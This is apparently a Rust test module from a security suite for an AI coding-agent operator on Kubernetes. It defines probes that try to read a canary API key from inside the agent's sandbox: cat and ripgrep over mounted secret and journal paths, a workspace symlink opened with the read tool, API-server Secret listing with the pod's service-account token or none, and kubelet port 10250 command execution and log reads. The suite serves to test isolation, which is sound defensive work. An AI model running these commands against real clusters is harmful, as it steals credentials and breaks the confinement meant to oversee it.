//! Through files, folders, devices and the cluster's own ways to a Secret.

use crate::leaks::attack::{Attack, Class::Key, How, Real, Sign};

pub(super) const ALL: &[Attack] = &[
    Attack::shell(
        Key,
        "mounted-keys",
        "the files of the Secret where the sidecar has them",
        Sign::Key,
        "cat /var/run/opencode-operator/keys/*/key /var/run/opencode-operator/keys/*/..data/key | keys",
    ),
    Attack::shell(
        Key,
        "any-file",
        "every file that a search finds",
        Sign::Key,
        "timeout 9 rg -uu -a -I -o --no-messages --max-filesize 1M 'sk-canary-[0-9a-f]{32}' /etc /run /var /opt /mnt /srv /root /home | head -n 5",
    ),
    Attack {
        name: "link-in-the-workspace",
        class: Key,
        tries: "a link to the key in the workspace, opened by OpenCode's read tool",
        how: How::Tool("read", r#"{"filePath": "/workspace/link-to-key"}"#),
        later: None,
        sign: Sign::Key,
        real: Real::Refused,
    },
    Attack::shell(
        Key,
        "journal",
        "another session's conversation from the journal's folder",
        Sign::Says("CONFIDENTIAL-7c1d"),
        "cat /var/lib/opencode-operator/journal/sessions/*/* /var/lib/opencode-operator/journal/sessions/*/*/* 2>/dev/null | grep -a -o 'CONFIDENTIAL-7c[0-9a-f]d' | head -n 1",
    ),
    Attack::shell(
        Key,
        "service-account",
        "the Secret from the API server with the pod's token",
        Sign::Key,
        r#"js 'const t = await Bun.file("/var/run/secrets/kubernetes.io/serviceaccount/token").text();
  const r = await fetch(`https://${process.env.KUBERNETES_SERVICE_HOST}/api/v1/namespaces/${process.env.NS}/secrets`, {headers: {authorization: `Bearer ${t}`}});
  for (const s of (await r.json()).items) for (const v of Object.values(s.data ?? {})) console.log(atob(v))' | keys"#,
    ),
    Attack::shell(
        Key,
        "api-server-anonymous",
        "the Secret from the API server without a token",
        Sign::Key,
        r#"js 'const r = await fetch(`https://${process.env.KUBERNETES_SERVICE_HOST}/api/v1/namespaces/${process.env.NS}/secrets`);
  for (const s of (await r.json()).items) for (const v of Object.values(s.data ?? {})) console.log(atob(v))' | keys"#,
    ),
    Attack::shell(
        Key,
        "kubelet-run",
        "a command in another container by the kubelet's port 10250",
        Sign::Key,
        r#"js 'const t = await Bun.file("/var/run/secrets/kubernetes.io/serviceaccount/token").text().catch(() => "none");
  const u = `https://${process.env.NODE}:10250/run/${process.env.NS}/${process.env.POD}/agent?cmd=cat%20/var/run/opencode-operator/keys/model/key`;
  console.log(await (await fetch(u, {method: "POST", headers: {authorization: `Bearer ${t}`}})).text())' | keys"#,
    ),
    Attack::shell(
        Key,
        "kubelet-logs",
        "the sidecar's log by the kubelet's port 10250",
        Sign::Key,
        r#"js 'const t = await Bun.file("/var/run/secrets/kubernetes.io/serviceaccount/token").text().catch(() => "none");
  const u = `https://${process.env.NODE}:10250/containerLogs/${process.env.NS}/${process.env.POD}/sidecar`;
  console.log(await (await fetch(u, {headers: {authorization: `Bearer ${t}`}})).text())' | keys"#,
    ),
];
